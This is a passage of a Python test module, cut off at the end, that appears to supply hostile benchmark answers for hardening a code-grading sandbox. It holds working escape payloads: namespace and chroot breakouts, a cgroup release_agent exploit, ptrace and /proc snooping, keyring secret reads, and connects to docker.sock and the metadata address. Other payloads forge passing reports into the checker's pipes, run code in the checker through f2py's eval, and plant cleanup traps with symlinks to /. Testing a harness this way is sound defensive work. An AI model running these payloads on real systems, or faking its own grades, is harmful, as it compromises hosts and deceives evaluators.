"""Hostile answers that try to get out of their process: to the checker, or to the machine.

Issue #42, item 8. Each answer below runs, from the solution's process, one way out:
signals and traces by pid guesses, ``kill(-1)`` and process groups, pidfds (a socket's
peer), ``/proc/PID/{root,cwd,fd,environ,mem,ns}``, ``setns``, new user and mount
namespaces (unmounting the covers, binding ``/`` again, ``open_tree``, a chroot's way
out, ``proc``, ``sysfs`` and cgroup mounts, a cgroup v1 ``release_agent``), writes to
``/proc/sys``, ``/sys`` and cgroups, abstract and named unix sockets, SysV and POSIX IPC,
the kernel's keyrings, descriptors it holds (a checker's report forged into every pipe),
the working directory the machine cleans up after it, a module the checker imports by the
name the answer gives it, and the rest of the system calls (``bpf``, ``perf_event_open``,
``open_by_handle_at``, ``init_module``, ``kexec_load``, ``iopl``, ``syslog``, ``ptrace``).

Every answer passes only if its way out worked (``_attempt()`` is true only then), or
leaves a side effect outside that the suites check through ``Watch``: a bystander
process of the unprivileged user every execution runs as (signals, connections, IPC it
holds), a session keyring of the runner's (as systemd gives every service one) with a
secret in it, the user keyrings of that user and of the runner's on the machine (the
kernel keeps them after every process of theirs has ended), a beacon in the machine's /tmp
and what the machine's cleanup leaves behind.

Merged into ``tests/test_hostile.py`` (``DS_ATTACKS``: DS-1000-style answers to its
``ARRAY`` problem) and ``tests/test_hostile_formats.py`` (``BCB_ATTACKS`` over its tasks,
``GC_ATTACKS`` with ``GC_TEST_OF``, ``CI_ATTACKS``), as ``tests/hostile_exceptions.py``.
"""

from __future__ import annotations

import atexit
import concurrent.futures
import contextlib
import ctypes
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import uuid
import zlib
from pathlib import Path
from typing import Any

TAG = f"harness-escape-{uuid.uuid4().hex[:10]}"
NOBODY = 65534  # the user every execution's processes run as where the harness is root
BEACON = Path("/tmp") / f"{TAG}-beacon"  # the machine's /tmp: no sandbox shows it
KEEP_DIR = Path("/tmp") / f"{TAG}-dir"  # what a cleanup that followed a link would empty
RUNNER_KEY = f"{TAG}-runner-secret"  # in the runner's session keyring
SHM_KEY = zlib.crc32(TAG.encode()) & 0x7FFFFFFF  # the bystander's SysV segment

# -- the answers' side ----------------------------------------------------------------------

# What every answer starts with: libc, the beacon, a child to try things in.
PRELUDE = r'''
import ctypes as _ct
import errno as _errno
import os as _os
import select as _select
import signal as _signal
import socket as _socket
import stat as _stat
import struct as _struct
import time as _time

_TAG = "__TAG__"
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
_BEACON = "/tmp/" + _TAG + "-beacon"
_USER, _NS, _PID, _NET, _IPC, _UTS, _CGROUP = (
    0x10000000, 0x20000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000)


def _sys(number, *args):
    return _libc.syscall(_ct.c_long(number), *[
        _ct.c_long(a) if isinstance(a, int) else a for a in args])


def _sees_machine(prefix=""):
    # the beacon is in the machine's /tmp; every sandbox has a /tmp of its own
    for path in (prefix + _BEACON, prefix + "/proc/1/root" + _BEACON):
        try:
            with open(path, "rb") as fh:
                if fh.read(6) == b"beacon":
                    return True
        except OSError:
            pass
    return False


def _pids():
    return sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())


def _in_child(attempt, timeout=3.0):
    """``attempt()`` in a forked child (whose namespaces may change): its truth."""
    r, w = _os.pipe()
    pid = _os.fork()
    if pid == 0:
        ok = False
        try:
            _os.close(r)
            ok = bool(attempt())
        except BaseException:
            pass
        finally:
            try:
                _os.write(w, b"1" if ok else b"0")
            finally:
                _os._exit(0)
    _os.close(w)
    got = _os.read(r, 1) if _select.select([r], [], [], timeout)[0] else b""
    _os.close(r)
    try:
        _os.kill(pid, _signal.SIGKILL)
    except OSError:
        pass
    try:
        _os.waitpid(pid, 0)
    except OSError:
        pass
    return got == b"1"


def _own_user_namespace(flags=0):
    """Root of a new user namespace (with ``flags``' namespaces too), mapped to itself."""
    uid, gid = _os.getuid(), _os.getgid()
    _libc.prctl(4, 1, 0, 0, 0)  # dumpable again: its /proc/self/*_map become its own
    if _libc.unshare(_USER | flags) != 0:
        return False
    for name, text in (("setgroups", "deny"), ("uid_map", "0 %d 1" % uid),
                       ("gid_map", "0 %d 1" % gid)):
        try:
            with open("/proc/self/" + name, "w") as fh:
                fh.write(text)
        except OSError:
            pass
    return True


def _record(status="pass", note=""):
    # an execution's report as the worker reads it (execution.report)
    import json
    return json.dumps({"status": status, "note": note, "graded": "", "parts": [],
                       "exc_type": None, "message": "", "traceback": "", "program_s": 0.0,
                       "warnings": []}).encode()


def _forge(fd):
    """Write a passing report into ``fd`` if it is a pipe's writing end."""
    try:
        st = _os.fstat(fd)
        import fcntl
        if not _stat.S_ISFIFO(st.st_mode) or fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == 0:
            return False
        _os.write(fd, _record())
        return True
    except OSError:
        return False
'''

# Each way out: defines ``_attempt()``, true only if it got out (and may leave a trace
# outside for the suites to find).
PAYLOADS: dict[str, str] = {}

PAYLOADS["signal-every-pid"] = r"""
def _attempt():
    # pid guesses: every pid the kernel allows, by kill(pid, 0) and pidfd_open; a pid
    # outside its own /proc that answers (or refuses: it exists) is a process outside
    mine = set(_pids())
    try:
        top = min(int(open("/proc/sys/kernel/pid_max").read()), 1 << 17)
    except (OSError, ValueError):
        top = 1 << 17
    reached = []
    for pid in range(1, top + 1):
        if pid in mine:
            continue
        if _libc.kill(pid, 0) == 0 or _ct.get_errno() == _errno.EPERM:
            reached.append(pid)
        fd = _sys(434, pid, 0)  # pidfd_open
        if fd >= 0:
            reached.append(pid)
            _os.close(fd)
    for pid in reached:  # the bystander, if it shows: told so
        try:
            if _TAG.encode() in open("/proc/%d/cmdline" % pid, "rb").read():
                _os.kill(pid, _signal.SIGUSR2)
        except OSError:
            pass
    return bool(reached)
"""

PAYLOADS["kill-minus-one-and-every-group"] = r"""
def _attempt():
    # every process it may signal, and every process group by number (not its own)
    _signal.signal(_signal.SIGUSR2, _signal.SIG_IGN)
    _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
    for sig in (_signal.SIGUSR2, _signal.SIGHUP, _signal.SIGCONT):
        _libc.kill(-1, sig)
    own = _os.getpgid(0)
    for pgid in range(2, 1 << 15):
        if pgid != own:
            _libc.kill(-pgid, _signal.SIGUSR2)
    return False  # the bystander says whether anything reached it
"""

PAYLOADS["pidfd-of-the-checker"] = r"""
def _attempt():
    # the request socket's peer is the checker: its pidfd (SO_PEERPIDFD), then its
    # descriptors (pidfd_getfd: its report's pipe, forged), its namespaces (setns), a
    # signal (pidfd_send_signal, 0: harmless if it got through)
    got_out = False
    forged = False
    for fd in range(0, 256):
        try:
            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                continue
            s = _socket.socket(fileno=_os.dup(fd))
        except OSError:
            continue
        try:
            pidfd = _struct.unpack("i", s.getsockopt(_socket.SOL_SOCKET, 77, 4))[0]
        except OSError:
            continue
        finally:
            s.close()
        if _sys(424, pidfd, 0, 0, 0) == 0:  # pidfd_send_signal(0)
            got_out = True
        for target in range(0, 128):
            stolen = _sys(438, pidfd, target, 0)  # pidfd_getfd
            if stolen >= 0:
                got_out = True
                forged = _forge(stolen) or forged
        for flag in (_NS, _NET, _PID, _USER, _IPC, _UTS, _CGROUP):
            if _libc.setns(pidfd, flag) == 0:
                got_out = True
        for number in range(1, 11):  # PIDFD_GET_*_NAMESPACE
            ns = _libc.ioctl(pidfd, (0xFF << 8) | number)
            if ns >= 0:
                got_out = True
    if forged:  # the checker's report is ours: end before it writes its own
        _os.kill(_os.getpid(), _signal.SIGKILL)
    return got_out or _sees_machine()
"""

PAYLOADS["ptrace-and-read-memory"] = r"""
def _attempt():
    # trace or read every process it sees but itself; its pid namespace's first one
    # is a process of the placer's (zygote) or of its own interpreter (fresh)
    me = _os.getpid()
    reached = False
    for pid in [p for p in _pids() if p != me] + [0]:
        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
            if _libc.ptrace(_ct.c_long(request), _ct.c_long(pid), None, None) == 0:
                reached = True
                _libc.ptrace(_ct.c_long(17), _ct.c_long(pid), None, None)
        buf = _ct.create_string_buffer(4096)
        local = (_ct.c_void_p * 2)(_ct.cast(buf, _ct.c_void_p), 4096)
        for address in (0x400000, 0x10000, 0x7fff00000000):
            remote = (_ct.c_void_p * 2)(address, 4096)
            if _sys(310, pid, local, 1, remote, 1, 0) > 0:  # process_vm_readv
                reached = True
    return reached
"""

PAYLOADS["proc-of-other-processes"] = r"""
def _attempt():
    # what /proc gives of every other process: its root and working directory (pid 1
    # of a zygote's namespace is the placer's sleeper: the machine's root), each of its
    # descriptors and namespaces opened, its environment, memory, stack, name
    me = _os.getpid()
    reached = []
    for pid in [p for p in _pids() if p != me]:
        base = "/proc/%s/" % pid
        for name in ("root", "cwd", "map_files"):
            try:
                _os.listdir(base + name)
                reached.append(base + name)
            except OSError:
                pass
        for folder in ("fd", "ns"):
            try:
                entries = _os.listdir(base + folder)
            except OSError:
                entries = [str(n) for n in range(8)] if folder == "fd" else []
            for entry in entries + ["mnt", "user", "pid", "net"] * (folder == "ns"):
                try:
                    _os.close(_os.open(base + folder + "/" + entry, _os.O_RDONLY))
                    reached.append(base + folder + "/" + entry)
                except OSError:
                    pass
        for name in ("environ", "mem", "auxv", "stack", "syscall", "pagemap"):
            try:
                with open(base + name, "rb") as fh:
                    if fh.read(16):
                        reached.append(base + name)
            except OSError:
                pass
        for name in ("comm", "attr/current"):
            try:
                with open(base + name, "w") as fh:
                    fh.write("0")
                reached.append(base + name)
            except OSError:
                pass
        if _sees_machine(base + "root") or _sees_machine(base + "cwd/../.."):
            reached.append(base + "root")
    return bool(reached) or _sees_machine()
"""

PAYLOADS["setns-everything"] = r"""
def _attempt():
    # every namespace /proc or a pidfd names, and its own namespaces' owners and
    # parents (NS_GET_USERNS, NS_GET_PARENT): joined, if it may, then looked around
    me = _os.getpid()
    fds = []
    for pid in [p for p in _pids() if p != me] + ["self"]:
        for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
            try:
                fds.append(_os.open("/proc/%s/ns/%s" % (pid, name), _os.O_RDONLY))
            except OSError:
                pass
    fd = _sys(434, 1, 0)
    if fd >= 0:
        fds.append(fd)
    for fd in list(fds):
        for request in (0xB701, 0xB702):  # NS_GET_USERNS, NS_GET_PARENT
            found = _libc.ioctl(fd, request)
            if found >= 0:
                fds.append(found)

    def join():
        joined = False
        for fd in fds:
            before = _os.readlink("/proc/self/ns/user")
            if _libc.setns(fd, 0) == 0 and _os.readlink("/proc/self/ns/user") != before:
                joined = True  # another user namespace: whose?
        return joined or _sees_machine()
    return _in_child(join)
"""

PAYLOADS["unshare-and-unmount"] = r"""
def _attempt():
    # root of a new user and mount namespace: unmount the covers, bind / again without
    # its submounts, clone it (open_tree), remount it writable; then look for the beacon
    def reveal():
        if not _own_user_namespace(_NS):
            return False
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
        for point in reversed(points):
            _libc.umount2(point.encode(), 2)  # MNT_DETACH
        if _sees_machine():
            return True
        _os.makedirs("/tmp/bound", exist_ok=True)
        for source in ("/", "/tmp", "/proc", "/sys"):
            if _libc.mount(source.encode(), b"/tmp/bound", None, 4096, None) == 0:
                if _sees_machine("/tmp/bound") or _os.path.exists("/tmp/bound/tmp/" + _TAG + "-beacon"):
                    return True
                _libc.umount2(b"/tmp/bound", 2)
        tree = _sys(428, -100, b"/", 1)  # open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE)
        if tree >= 0 and _sees_machine("/proc/self/fd/%d" % tree):
            return True
        if _libc.mount(None, b"/", None, 32 | 4096, None) == 0:  # MS_REMOUNT|MS_BIND, rw
            try:
                open("/usr/" + _TAG, "w").close()
                return True
            except OSError:
                pass
        return _sees_machine()
    return _in_child(reveal)
"""

PAYLOADS["mount-proc-sysfs-and-cgroups"] = r"""
def _attempt():
    # new user, mount, pid, network and cgroup namespaces: proc, sysfs, cgroup2 and the
    # cgroup v1 hierarchies mounted afresh; a release_agent (CVE-2022-0492) that would
    # touch a file in the machine's /tmp; the worker's pids.max
    here = _os.getcwd()
    agent = _os.path.join(here, "agent.sh")
    with open(agent, "w") as fh:
        fh.write("#!/bin/sh\ntouch /tmp/" + _TAG + "-released\n")
    _os.chmod(agent, 0o755)

    def mounts():
        if not _own_user_namespace(_NS | _CGROUP | _NET | _PID):
            return False
        if _os.fork() != 0:  # pid 1 of its own namespace does the rest
            _os._exit(_os.wait()[1] >> 8)
        got_out = False
        _os.makedirs("/tmp/m", exist_ok=True)
        for kind, options in (("proc", None), ("sysfs", None), ("cgroup2", None),
                              ("cgroup", b"pids"), ("cgroup", b"cpu"), ("cgroup", b"memory"),
                              ("cgroup", b"none,name=" + _TAG.encode()), ("cgroup", b"rdma"),
                              ("devpts", None), ("mqueue", None), ("bpf", None),
                              ("debugfs", None), ("tracefs", None), ("securityfs", None)):
            if _libc.mount(kind.encode(), b"/tmp/m", kind.encode(), 0, options) != 0:
                continue
            for name in ("release_agent", "pids.max", "cgroup.procs", "sys/kernel/core_pattern",
                         "kernel/uevent_helper", "sysrq-trigger"):
                try:
                    fd = _os.open("/tmp/m/" + name, _os.O_WRONLY)
                except OSError:
                    continue
                if name == "release_agent":
                    try:
                        _os.write(fd, agent.encode())
                        got_out = True
                        with open("/tmp/m/notify_on_release", "w") as fh:
                            fh.write("1")
                        _os.makedirs("/tmp/m/x", exist_ok=True)
                        with open("/tmp/m/x/notify_on_release", "w") as fh:
                            fh.write("1")
                        if _os.fork() == 0:
                            with open("/tmp/m/x/cgroup.procs", "w") as fh:
                                fh.write(str(_os.getpid()))
                            _os._exit(0)
                        _os.wait()
                    except OSError:
                        pass
                elif name != "cgroup.procs":
                    got_out = True  # a machine-wide setting, open for writing
                _os.close(fd)
            _libc.umount2(b"/tmp/m", 2)
        _os._exit(0 if not got_out else 3)

    def run():
        pid = _os.fork()
        if pid == 0:
            try:
                mounts()
            finally:
                _os._exit(0)
        return _os.waitpid(pid, 0)[1] >> 8 == 3
    return _in_child(run) or _sees_machine()
"""

PAYLOADS["write-kernel-settings-and-cgroups"] = r"""
def _attempt():
    # machine-wide settings opened for writing (nothing is written): kernel settings,
    # sysrq, the uevent helper, cgroups (its own worker's too), devices, other pids'
    targets = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
               "/proc/sys/vm/drop_caches", "/proc/sys/fs/suid_dumpable", "/proc/sysrq-trigger",
               "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled",
               "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cpu/cgroup.procs",
               "/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
               "/dev/kmsg", "/dev/mem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1",
               "/proc/sys/net/core/somaxconn"]
    for line in open("/proc/self/cgroup"):
        parts = line.strip().split(":", 2)
        if len(parts) == 3 and parts[2] not in ("", "/"):
            for control in parts[1].split(",") or ["unified"]:
                base = "/sys/fs/cgroup/%s%s" % (control or "unified", parts[2])
                targets += [base + "/pids.max", base + "/cgroup.procs", base + "/cpu.shares",
                            base + "/../cgroup.procs", base + "/tasks"]
    opened = []
    for path in targets:
        try:
            fd = _os.open(path, _os.O_WRONLY)
        except OSError:
            continue
        opened.append(path)
        _os.close(fd)
    return bool(opened)
"""

PAYLOADS["forge-reports-into-every-pipe"] = r"""
def _attempt():
    # every descriptor it holds, and every pipe reopened through /proc/self/fd: a
    # passing report of the supervisor's format into each pipe's writing end, then an
    # end without a word (the checker then ends as it did, writing no report of its own)
    import fcntl
    forged = 0
    for fd in range(0, 1024):
        try:
            st = _os.fstat(fd)
        except OSError:
            continue
        if not _stat.S_ISFIFO(st.st_mode):
            continue
        for opened in (fd, "reopen"):
            target = fd
            if opened == "reopen":
                try:
                    target = _os.open("/proc/self/fd/%d" % fd, _os.O_WRONLY | _os.O_NONBLOCK)
                except OSError:
                    continue
            try:
                if fcntl.fcntl(target, fcntl.F_GETFL) & 3 and target not in (1, 2):
                    _os.write(target, _record())
                    forged += 1
            except OSError:
                pass
    _os.kill(_os.getpid(), _signal.SIGKILL)
    return False
"""

PAYLOADS["sockets-of-the-machine"] = r"""
def _attempt():
    # the bystander's abstract and named sockets, every abstract name this network
    # namespace lists, the sockets of a machine's services, the host's addresses
    names = ["\0" + _TAG + "-bystander", "/tmp/" + _TAG + "-bystander.sock",
             "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
             "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify",
             "/run/systemd/journal/socket", "/dev/log", "/run/user/0/bus",
             "\0/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0", "/run/snapd.socket"]
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[7].startswith("@"):
                names.append("\0" + fields[7][1:])
    except OSError:
        pass
    connected = []
    for name in names:
        s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        s.settimeout(0.2)
        try:
            s.connect(name)
            connected.append(name)
        except OSError:
            pass
        finally:
            s.close()
    for address in (("169.254.169.254", 80), ("10.0.2.2", 22), ("172.17.0.1", 22),
                    ("8.8.8.8", 53)):
        s = _socket.socket()
        s.settimeout(0.2)
        try:
            s.connect(address)
            connected.append(address)
        except OSError:
            pass
        finally:
            s.close()
    # the kernel's device events are sent to network namespaces the machine's user
    # namespace owns: one arriving here is the machine's
    try:
        ev = _socket.socket(_socket.AF_NETLINK, _socket.SOCK_DGRAM, 15)
        ev.bind((0, 1))
        ev.close()
    except OSError:
        pass
    return bool(connected)
"""

PAYLOADS["keyring-of-the-runner"] = r"""
def _attempt():
    # the session keyring it inherited (systemd gives every service one; the suite's
    # runner holds one with a secret): read the runner's key, plant one of its own
    key = _sys(250, 10, -3, b"user", (_TAG + "-runner-secret").encode(), 0)  # KEYCTL_SEARCH
    secret = b""
    if key > 0:
        buf = _ct.create_string_buffer(256)
        n = _sys(250, 11, key, buf, 256)  # KEYCTL_READ
        secret = buf.raw[:max(n, 0)]
    _sys(248, b"user", (_TAG + "-planted-in-session").encode(), b"x", 1, -3)  # add_key @s
    return secret.startswith(b"secret")
"""

PAYLOADS["keyring-across-executions"] = r"""
def _attempt():
    # the user keyring of its user: shared by every process of that user in its user
    # namespace, and kept after they end. Its own key in, another execution's key out
    import random
    mine = "%s-across-%d" % (_TAG, random.SystemRandom().randrange(1 << 30))
    _sys(248, b"user", mine.encode(), b"from another execution", 22, -4)  # add_key @u
    deadline = _time.time() + __WAIT__
    while True:
        ids = (_ct.c_int32 * 256)()
        n = _sys(250, 11, -4, ids, _ct.sizeof(ids))  # KEYCTL_READ of the keyring: its keys
        for key in list(ids)[:max(n, 0) // 4]:
            buf = _ct.create_string_buffer(256)
            _sys(250, 6, key, buf, 256)  # KEYCTL_DESCRIBE
            name = buf.value.split(b";")[-1].decode(errors="replace")
            if name.startswith(_TAG + "-across-") and name != mine:
                return True
        if _time.time() > deadline:
            return False
        _time.sleep(0.2)
"""

PAYLOADS["deep-tree-for-the-cleanup"] = r"""
def _attempt():
    # a working directory the machine's cleanup (shutil.rmtree, as root, in the worker)
    # may not get through: deeper than its recursion goes
    top = _os.getcwd()
    _os.mkdir(_TAG + "-deep")
    _os.chdir(_TAG + "-deep")
    for _ in range(1500):
        _os.mkdir("d")
        _os.chdir("d")
    _os.chdir(top)
    return False
"""

PAYLOADS["links-for-the-cleanup"] = r"""
def _attempt():
    # what the machine's cleanup of the working directory could follow: links to the
    # machine's paths (a directory of the suite's in the machine's /tmp, /), a
    # directory it cannot enter holding more, a FIFO, a socket, names that are paths
    import socket
    _os.symlink("/tmp/" + _TAG + "-dir", "to-the-machine")
    _os.symlink("/", "to-root")
    _os.makedirs("locked/inner", exist_ok=True)
    _os.symlink("/tmp/" + _TAG + "-dir", "locked/inner/to-the-machine")
    _os.symlink("/tmp/" + _TAG + "-dir/keep", "locked/keep")
    _os.chmod("locked/inner", 0)
    _os.chmod("locked", 0)
    _os.mkfifo("fifo")
    s = socket.socket(socket.AF_UNIX)
    s.bind("socket")
    s.close()
    for name in ("..\n..", " -rf", "--no-preserve-root"):
        open(name, "w").close()
    return False
"""

PAYLOADS["chroot-and-climb-out"] = r"""
def _attempt():
    # the classic: chroot below itself while it holds the old root, then climb out
    def climb():
        if not _own_user_namespace(_NS):
            return False
        old = _os.open("/", _os.O_RDONLY)
        _os.makedirs("/tmp/jail", exist_ok=True)
        if _libc.chroot(b"/tmp/jail") != 0:
            return False
        _os.fchdir(old)
        for _ in range(64):
            _os.chdir("..")
        _libc.chroot(b".")
        return _sees_machine() or _os.path.exists("/.harness-old-root")
    return _in_child(climb)
"""

PAYLOADS["privileged-system-calls"] = r"""
def _attempt():
    # calls that reach the machine if allowed; with arguments that would do nothing
    # even then (a refusal by permission is EPERM/EACCES; anything else got past it)
    denied = (_errno.EPERM, _errno.EACCES, _errno.ENOSYS)
    reached = []

    def tried(name, result):
        if result >= 0 or _ct.get_errno() not in denied:
            reached.append((name, result, _ct.get_errno()))

    attr = _ct.create_string_buffer(128)
    _struct.pack_into("IIQQ", attr, 0, 1, 128, 0, 0)  # PERF_TYPE_SOFTWARE, cpu-clock
    tried("perf_event_open system-wide", _sys(298, attr, -1, 0, -1, 0))
    tried("perf_event_open pid 1", _sys(298, attr, 1, -1, -1, 0))
    insns = _struct.pack("<BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0)  # r0 = 0; exit
    prog = _ct.create_string_buffer(insns)
    licence = _ct.create_string_buffer(b"GPL")
    battr = _ct.create_string_buffer(128)
    _struct.pack_into("IIQQ", battr, 0, 1, 2, _ct.addressof(prog), _ct.addressof(licence))
    tried("bpf prog load", _sys(321, 5, battr, 128))
    tried("init_module", _sys(175, 0, 0, b""))
    tried("kexec_load", _sys(246, 0, 0, 0, 0))
    tried("iopl", _sys(172, 3))
    tried("ioperm", _sys(173, 0x80, 1, 1))
    tried("syslog read", _sys(103, 3, _ct.create_string_buffer(4096), 4096))
    tried("acct", _sys(163, 0))
    tried("swapoff", _sys(168, b"/nonexistent"))
    tried("mknod /tmp/mem", _sys(133, b"/tmp/mem", 0o20600, (1 << 8) | 1))
    # open_by_handle_at: a handle of the working directory's filesystem root (inode
    # 2 on ext2-4), through the working directory: the machine's whole disk
    handle = _ct.create_string_buffer(8 + 8)
    _struct.pack_into("IiII", handle, 0, 8, 1, 2, 0)
    here = _os.open(".", _os.O_RDONLY)
    tried("open_by_handle_at", _sys(304, here, handle, 0))
    return bool(reached)
"""

PAYLOADS["trace-me-from-the-parent"] = r"""
def _attempt():
    # PTRACE_TRACEME: its parent (the placer, a root process, or its new interpreter's
    # first process) becomes its tracer, and is told of every signal it gets
    if _libc.ptrace(_ct.c_long(0), _ct.c_long(0), None, None) != 0:
        return False
    _os.kill(_os.getpid(), _signal.SIGUSR2)
    return _sees_machine()
"""

PAYLOADS["ipc-of-the-machine"] = r"""
def _attempt():
    # the bystander's SysV segment and POSIX queue, in the machine's IPC namespace, and
    # its file in the machine's /dev/shm
    found = []
    if _libc.shmget(_ct.c_int(__SHM_KEY__), _ct.c_size_t(0), _ct.c_int(0)) >= 0:
        found.append("shm")
    for key in range(1, 64):
        if _libc.msgget(_ct.c_int(key), _ct.c_int(0)) >= 0:
            found.append(("msg", key))
    q = _libc.mq_open(("/" + _TAG).encode(), _os.O_RDONLY)
    if q >= 0:
        found.append("mq")
    if _os.path.exists("/dev/shm/" + _TAG + "-bystander"):
        found.append("/dev/shm")
    return bool(found)
"""

PAYLOADS["owner-of-the-checkers-user-namespace"] = r"""
def _attempt():
    # a checker's user namespace is owned by the user this process runs as: every
    # user namespace it can name (its own namespaces' owners and parents, new ones'
    # parents) is joined if it may, and the beacon looked for from there
    def walk():
        seen, todo, joined = set(), [], False
        for name in ("user", "net", "pid", "mnt", "ipc", "uts", "cgroup"):
            try:
                todo.append(_os.open("/proc/self/ns/" + name, _os.O_RDONLY))
            except OSError:
                pass
        own = _os.stat("/proc/self/ns/user").st_ino
        while todo:
            fd = todo.pop()
            ino = _os.fstat(fd).st_ino
            if ino in seen:
                continue
            seen.add(ino)
            for request in (0xB701, 0xB702):
                found = _libc.ioctl(fd, request)
                if found >= 0:
                    todo.append(found)
            if ino != own and _libc.setns(fd, _USER) == 0:
                joined = True
        return joined or _sees_machine()
    return _in_child(walk)
"""

PAYLOADS["signal-own-process-group"] = r"""
def _attempt():
    # kill(0, …): its process group, whoever is in it (a new interpreter's first
    # process, outside its pid namespace, shares it)
    _signal.signal(_signal.SIGUSR2, _signal.SIG_IGN)
    _libc.kill(0, _signal.SIGUSR2)
    _time.sleep(0.3)
    return False
"""

PAYLOADS["wire-frames-that-lie"] = r"""
def _attempt():
    # its reports' frames as the checker reads them (wire.read_report): a length past
    # the cap, then a signed one, a length line longer than the reader takes, digits that
    # are not ASCII, a forged report claiming its result unchanged, then the real report
    # twice; whatever the checker makes of the first is what it gets
    import sys
    wire = sys.modules.get("_harness_envside.bridge.wire")
    if wire is None:
        return False
    real = wire._frame

    def lying(header, blobs):
        honest = real(header, blobs)
        forged = real(dict(header, values=[], unchanged=["result"]), [])
        return (b"%d\n" % (1 << 40) + b"-1\n" + b"0" * 40 + b"1\n" + "\u0663\n".encode()
                + forged + honest + honest)

    wire._frame = lying
    return False
"""

# A module the checker imports by the name the answer gives one of its values: numpy's
# f2py as ``python -m numpy.f2py`` runs, on the checker's own command line, whose first
# argument (``run`` in zygote mode, ``exec`` in fresh mode) is read as a Fortran file
# from the working directory the answer shares; crackfortran evaluates a PARAMETER's
# value with eval(). The code then runs in the checker, and writes its passing report.
IN_THE_CHECKER = r"""
import json, os, stat, sys
reached = []
for path in ("/tmp/__TAG__-beacon", "/proc/1/root/tmp/__TAG__-beacon"):
    try:
        open(path).read(1)
        reached.append(path)
    except OSError:
        pass
note = "written in the checker (uid %d, pid %d); the machine's /tmp: %s" % (
    os.getuid(), os.getpid(), reached or "out of sight")
record = {"status": "pass", "note": note, "graded": "", "parts": [], "exc_type": None,
          "message": "", "traceback": "", "program_s": 0.0, "warnings": []}
fds = []
for name, module in list(sys.modules.items()):
    if name.endswith(".guard") and getattr(module, "ACTIVE", None):
        fds = [fd for fd in module.ACTIVE[0].close_fds if fd >= 0]
if not fds:
    import fcntl
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & 3:
                fds.append(fd)
        except OSError:
            pass
for fd in fds:
    try:
        os.write(fd, json.dumps(record).encode())
        os.close(fd)
    except OSError:
        pass
os._exit(0)
"""
FORTRAN = (
    "      subroutine h(a)\n"
    "      integer a\n"
    "      parameter (n = exec(open('e.py').read()) or 1)\n"
    "      end\n"
)
PLANT_F2PY = f"""
import types as _types
for _name in ("run", "exec"):
    with open(_name, "w") as _h:
        _h.write({FORTRAN!r})
with open("e.py", "w") as _h:
    _h.write({IN_THE_CHECKER!r}.replace("__TAG__", {TAG!r}))
"""


def _payload(name: str, wait: float) -> str:
    code = PRELUDE + PAYLOADS[name]
    return (
        code.replace("__TAG__", TAG)
        .replace("__WAIT__", repr(wait))
        .replace("__SHM_KEY__", str(SHM_KEY))
    )


# -- DS-1000 style (tests/test_hostile.py's ARRAY problem: ``result = a * 2`` passes) -------

DS_ATTACKS: dict[str, str] = {
    f"esc-{name}": _payload(name, 1.0) + "\nresult = a * 2 if _attempt() else a\n"
    for name in PAYLOADS
}
# a partner for the keyring's way across: two executions, each looking for the other's key
DS_ATTACKS["esc-keyring-across-executions-2"] = DS_ATTACKS["esc-keyring-across-executions"]

# -- BigCodeBench (tests/test_hostile_formats.py's "sum" task) -----------------------------

BCB_ATTACKS: dict[str, tuple[str, str]] = {
    f"esc-{name}": (
        "sum",
        _payload(name, 6.0)
        + "\n_ESCAPED = _attempt()\n\n\ndef task_func(numbers):\n"
        + "    return sum(numbers) if _ESCAPED else -1\n",
    )
    for name in PAYLOADS
}
BCB_ATTACKS["esc-module-the-checker-imports"] = (
    "sum",
    PLANT_F2PY
    + "\n_f2py = _types.ModuleType('numpy.f2py.__main__')\n\n\n"
    + "def task_func(numbers):\n    return -1\n",
)

# -- GitChameleon (its ``scale`` tasks, GC_TEST) ----------------------------------------------

GC_ATTACKS: dict[str, str] = {
    f"esc-{name}": _payload(name, 6.0)
    + "\n_ESCAPED = _attempt()\nimport numpy as np\n\n\ndef scale(x):\n"
    + "    return np.asarray(x) * 2 if _ESCAPED else np.zeros_like(x)\n"
    for name in PAYLOADS
}
# the name the test imports is the module the checker then imports
GC_ATTACKS["esc-module-the-checker-imports"] = (
    PLANT_F2PY + "\nscale = _types.ModuleType('numpy.f2py.__main__')\n"
)
# as GitChameleon's hidden tests do (``sample_143.flask.Flask``): a module of the sample's
GC_ATTACKS["esc-module-of-the-sample"] = (
    PLANT_F2PY
    + "\nimport numpy as _numpy\nnp = _types.ModuleType('numpy.f2py.__main__')\n\n\n"
    + "def scale(x):\n    return _numpy.zeros_like(x)\n"
)
GC_TEST_OF: dict[str, str] = {
    "esc-module-of-the-sample": """
import sample_{id}


def test_scales():
    x = sample_{id}.np.asarray([1.0, 2.0])
    assert (sample_{id}.scale(x) == x * 2).all()
""",
}

# -- CIBench (the session of tests/test_hostile_formats.py's CI_STEPS) ------------------------


def _ci(step1: str) -> str:
    return (
        "# %% step 1\n" + step1 + "\nimport pandas as pd\n"
        "df = pd.DataFrame({'g': ['x', 'x', 'y'], 'v': [1, 3, 3]}) if _ESCAPED "
        "else pd.DataFrame({'g': [], 'v': []})\n"
